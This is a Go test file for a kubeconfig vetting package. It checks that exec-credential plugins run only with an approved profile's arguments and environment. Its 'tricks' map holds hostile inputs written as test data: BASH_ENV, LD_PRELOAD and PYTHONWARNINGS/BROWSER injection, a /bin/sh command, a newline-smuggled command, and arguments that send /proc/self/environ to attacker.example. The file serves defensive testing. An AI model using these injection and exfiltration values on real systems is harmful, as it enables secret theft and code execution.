package kubeconfig

import (
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"k8s.io/client-go/rest"
)

// fakePlugin writes a bash script that records its arguments and environment in
// record, then prints an ExecCredential; bash honours BASH_ENV, so an inherited BASH_ENV
// would run before it.
func fakePlugin(t *testing.T, dir, name, record string) {
	t.Helper()
	script := `#!/bin/bash
printf '%s\n' "$@" > ` + record + `.args
env > ` + record + `.env
echo '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"plugin-token"}}'
`
	if err := os.WriteFile(filepath.Join(dir, name), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
}

// TestExecProfileRunsOnlyTheProfile registers kubeconfigs that try each trick a chosen
// argument or environment variable allows (BASH_ENV, LD_PRELOAD, PYTHONWARNINGS with
// BROWSER, arguments that read files, a value that smuggles an argument, another command)
// against a profile whose fake plugin records what it gets, with the service's secrets
// and a BASH_ENV in the process environment. Every trick is refused at the intake; the
// one honest kubeconfig runs the plugin with exactly the profile's arguments and
// environment, and nothing else ran.
func TestExecProfileRunsOnlyTheProfile(t *testing.T) {
	dir := t.TempDir()
	bin := filepath.Join(dir, "bin")
	if err := os.Mkdir(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	record := filepath.Join(dir, "record")
	marker := filepath.Join(dir, "marker")
	evil := filepath.Join(dir, "evil.sh")
	if err := os.WriteFile(evil, []byte("touch "+marker+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	fakePlugin(t, bin, "fake-plugin", record)
	// The service's environment: its secrets, and tricks an operator's shell might hold.
	t.Setenv("PATH", bin+string(filepath.ListSeparator)+os.Getenv("PATH"))
	t.Setenv("TAGDRIFT_ENCRYPTION_KEY", "secret-encryption-key")
	t.Setenv("TAGDRIFT_ADMIN_TOKEN", "secret-admin-token")
	t.Setenv("TAGDRIFT_DATABASE_URL", "postgres://u:secret-db-password@db/tagdrift")
	t.Setenv("BASH_ENV", evil)
	t.Setenv("LD_PRELOAD", filepath.Join(dir, "evil.so"))

	profiles, err := ParseExecProfiles([]byte(`
- name: fake
  command: fake-plugin
  args: [get-token, --cluster-name, "${cluster}"]
  env: {FAKE_REGION: "${region}", FAKE_PROFILE: tagdrift}
  path: ` + bin + `:/usr/bin:/bin
  home: ` + dir + `
  values:
  - {name: cluster, pattern: '[a-z0-9][a-z0-9-]{0,40}'}
  - {name: region, pattern: '[a-z]{2}-[a-z]+-[0-9]'}
`))
	if err != nil {
		t.Fatal(err)
	}
	policy := Policy{ExecProfiles: profiles}

	var mu sync.Mutex
	var auths []string
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		auths = append(auths, r.Header.Get("Authorization"))
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"kind":"Status","apiVersion":"v1","status":"Success"}`)
	}))
	defer srv.Close()
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
	cfgWith := func(exec string) string {
		return fmt.Sprintf(`current-context: c
contexts: [{name: c, context: {cluster: k, user: u}}]
clusters: [{name: k, cluster: {server: %q, certificate-authority-data: %s}}]
users:
- name: u
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
%s
`, srv.URL, encode(ca), exec)
	}
	honest := "      command: fake\n      env: [{name: cluster, value: prod-1}, {name: region, value: eu-west-1}]"
	tricks := map[string]string{
		"BASH_ENV":                "      command: fake\n      env: [{name: cluster, value: prod-1}, {name: region, value: eu-west-1}, {name: BASH_ENV, value: " + evil + "}]",
		"LD_PRELOAD":              "      command: fake\n      env: [{name: cluster, value: prod-1}, {name: region, value: eu-west-1}, {name: LD_PRELOAD, value: /tmp/evil.so}]",
		"PYTHONWARNINGS+BROWSER":  "      command: fake\n      env: [{name: cluster, value: prod-1}, {name: region, value: eu-west-1}, {name: PYTHONWARNINGS, value: 'all:0:antigravity.x:0:0'}, {name: BROWSER, value: 'sh -c \"touch " + marker + "\"'}]",
		"arguments reading files": "      command: fake\n      args: [s3, cp, /proc/self/environ, 's3://bucket/x', --endpoint-url, 'https://attacker.example']\n      env: [{name: cluster, value: prod-1}, {name: region, value: eu-west-1}]",
		"value smuggling an arg":  "      command: fake\n      env: [{name: cluster, value: 'prod --endpoint-url https://attacker.example'}, {name: region, value: eu-west-1}]",
		"value with a newline":    "      command: fake\n      env: [{name: cluster, value: \"prod\\ntouch " + marker + "\"}, {name: region, value: eu-west-1}]",
		"another command":         "      command: /bin/sh\n      args: [-c, 'touch " + marker + "']",
		"the plugin by its path":  "      command: " + filepath.Join(bin, "fake-plugin") + "\n      env: [{name: cluster, value: prod-1}, {name: region, value: eu-west-1}]",
		"the profile's env":       "      command: fake\n      env: [{name: cluster, value: prod-1}, {name: region, value: eu-west-1}, {name: FAKE_PROFILE, value: admin}]",
	}
	for name, exec := range tricks {
		if r, err := Vet([]byte(cfgWith(exec)), "", policy); err == nil {
			t.Errorf("%s: accepted: %+v", name, r.Exec)
		} else if fe := (*FieldError)(nil); !errors.As(err, &fe) || !strings.HasPrefix(fe.Field, "users[u].user.exec") {
			t.Errorf("%s: %v, want a refusal of the exec stanza", name, err)
		}
	}

	r, err := Vet([]byte(cfgWith(honest)), "", policy)
	if err != nil {
		t.Fatal(err)
	}
	allowed := &Dialer{Allowed: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}}
	cfg, err := r.RESTConfig(allowed, policy)
	if err != nil {
		t.Fatal(err)
	}
	client, err := rest.HTTPClientFor(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for range 2 {
		resp, err := client.Get(srv.URL + "/api")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	mu.Lock()
	if want := []string{"Bearer plugin-token", "Bearer plugin-token"}; !slices.Equal(auths, want) {
		t.Errorf("the server saw %q, want %q", auths, want)
	}
	mu.Unlock()

	if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a trick ran (the marker exists): %v", err)
	}
	args, err := os.ReadFile(record + ".args")
	if err != nil {
		t.Fatalf("the plugin did not run: %v", err)
	}
	if got, want := strings.Split(strings.TrimSpace(string(args)), "\n"), []string{"get-token", "--cluster-name", "prod-1"}; !slices.Equal(got, want) {
		t.Errorf("plugin arguments %q, want %q", got, want)
	}
	envText, err := os.ReadFile(record + ".env")
	if err != nil {
		t.Fatal(err)
	}
	env := map[string]string{}
	for _, line := range strings.Split(strings.TrimSpace(string(envText)), "\n") {
		k, v, _ := strings.Cut(line, "=")
		env[k] = v
	}
	for k, v := range env {
		if strings.HasPrefix(k, "TAGDRIFT_") || strings.Contains(v, "secret-") {
			t.Errorf("the plugin got the service's %s", k)
		}
	}
	for _, k := range []string{"BASH_ENV", "LD_PRELOAD", "PYTHONWARNINGS", "BROWSER"} {
		if _, ok := env[k]; ok {
			t.Errorf("the plugin got %s", k)
		}
	}
	want := map[string]string{
		"PATH": bin + ":/usr/bin:/bin", "HOME": dir, "FAKE_REGION": "eu-west-1", "FAKE_PROFILE": "tagdrift",
		"KUBERNETES_EXEC_INFO": `{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","spec":{"interactive":false}}`,
	}
	for k, v := range want {
		if env[k] != v {
			t.Errorf("plugin env %s = %q, want %q", k, env[k], v)
		}
	}
	// Bash adds its own few (PWD, SHLVL, _); nothing else may appear.
	for k := range env {
		if _, ok := want[k]; !ok && !slices.Contains([]string{"PWD", "SHLVL", "_"}, k) {
			t.Errorf("the plugin got %s, which the profile does not set", k)
		}
	}
}

// TestExecPluginFailureShowsNoOutput runs a plugin that fails after printing a secret on
// stderr, and one that prints garbage: the errors say what happened, never what they
// printed.
func TestExecPluginFailureShowsNoOutput(t *testing.T) {
	dir := t.TempDir()
	failing := filepath.Join(dir, "failing")
	garbage := filepath.Join(dir, "garbage")
	for path, body := range map[string]string{
		failing: "echo 'stderr-secret' >&2\nexit 3\n",
		garbage: "echo 'stdout-secret'\n",
	} {
		if err := os.WriteFile(path, []byte("#!/bin/sh\n"+body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for path, want := range map[string]string{failing: "exited with status 3", garbage: "no ExecCredential"} {
		a := &execAuth{profile: ExecProfile{Name: "p", Command: path, Path: "/usr/bin:/bin", APIVersion: defaultExecAPI, Timeout: Duration(defaultExecTimeout)}}
		_, _, err := a.run(t.Context())
		var ee *ExecError
		if !errors.As(err, &ee) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want an ExecError saying %q", filepath.Base(path), err, want)
		}
		if err != nil && strings.Contains(err.Error(), "secret") {
			t.Errorf("%s: the error quotes the plugin's output: %v", filepath.Base(path), err)
		}
	}
}

func TestParseExecProfilesRefuses(t *testing.T) {
	for name, text := range map[string]string{
		"no name":            "- {command: /bin/true}",
		"bad name":           "- {name: 'A B', command: /bin/true}",
		"relative command":   "- {name: a, command: bin/true}",
		"undeclared value":   "- {name: a, command: /bin/true, args: ['${x}']}",
		"unused value":       "- {name: a, command: /bin/true, values: [{name: x, pattern: '[a-z]+'}]}",
		"no pattern":         "- {name: a, command: /bin/true, args: ['${x}'], values: [{name: x}]}",
		"bad pattern":        "- {name: a, command: /bin/true, args: ['${x}'], values: [{name: x, pattern: '(']}]}",
		"PATH in env":        "- {name: a, command: /bin/true, env: {PATH: /tmp}}",
		"relative path":      "- {name: a, command: true, path: 'bin:/usr/bin'}",
		"unknown field":      "- {name: a, command: /bin/true, shell: true}",
		"twice":              "- {name: a, command: /bin/true}\n- {name: a, command: /bin/false}",
		"bad timeout":        "- {name: a, command: /bin/true, timeout: forever}",
		"not a list":         "name: a",
		"value named oddly":  "- {name: a, command: /bin/true, args: ['${1x}'], values: [{name: 1x, pattern: x}]}",
		"relative home":      "- {name: a, command: /bin/true, home: home}",
		"exec info in env":   "- {name: a, command: /bin/true, env: {KUBERNETES_EXEC_INFO: x}}",
		"env name not a var": "- {name: a, command: /bin/true, env: {'A-B': x}}",
	} {
		if ps, err := ParseExecProfiles([]byte(text)); err == nil {
			t.Errorf("%s: accepted %+v", name, ps)
		}
	}
}

// TestCheckAtUse checks stored configurations against a policy that changed since they
// were vetted.
func TestCheckAtUse(t *testing.T) {
	prof := gkeProfile()
	tests := []struct {
		name   string
		r      Reduced
		policy Policy
		ok     bool
	}{
		{"token", Reduced{Server: "https://k", Token: "t"}, Policy{}, true},
		{"insecure, allowed", Reduced{Server: "https://k", Token: "t", Insecure: true}, Policy{AllowInsecureTLS: true}, true},
		{"insecure, no longer allowed", Reduced{Server: "https://k", Token: "t", Insecure: true}, Policy{}, false},
		{"profile", Reduced{Server: "https://k", Exec: &Exec{Profile: "gke", Values: map[string]string{"project": "my-project-1"}}}, Policy{ExecProfiles: []ExecProfile{prof}}, true},
		{"profile gone", Reduced{Server: "https://k", Exec: &Exec{Profile: "gke", Values: map[string]string{"project": "my-project-1"}}}, Policy{}, false},
		{"value off the pattern now", Reduced{Server: "https://k", Exec: &Exec{Profile: "gke", Values: map[string]string{"project": "x"}}}, Policy{ExecProfiles: []ExecProfile{prof}}, false},
		{"stored before profiles", Reduced{Server: "https://k", Exec: &Exec{Command: "gke-gcloud-auth-plugin"}}, Policy{ExecProfiles: []ExecProfile{prof}}, false},
		{"plain http", Reduced{Server: "http://k", Token: "t"}, Policy{}, false},
	}
	for _, tt := range tests {
		err := tt.r.Check(tt.policy)
		if (err == nil) != tt.ok {
			t.Errorf("%s: Check = %v, want ok %v", tt.name, err, tt.ok)
		}
		var pe *PolicyError
		if err != nil && !errors.As(err, &pe) {
			t.Errorf("%s: %v is not a PolicyError", tt.name, err)
		}
		if _, err := tt.r.RESTConfig(&Dialer{}, tt.policy); (err == nil) != tt.ok {
			t.Errorf("%s: RESTConfig = %v, want ok %v", tt.name, err, tt.ok)
		}
	}
}

func encode(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
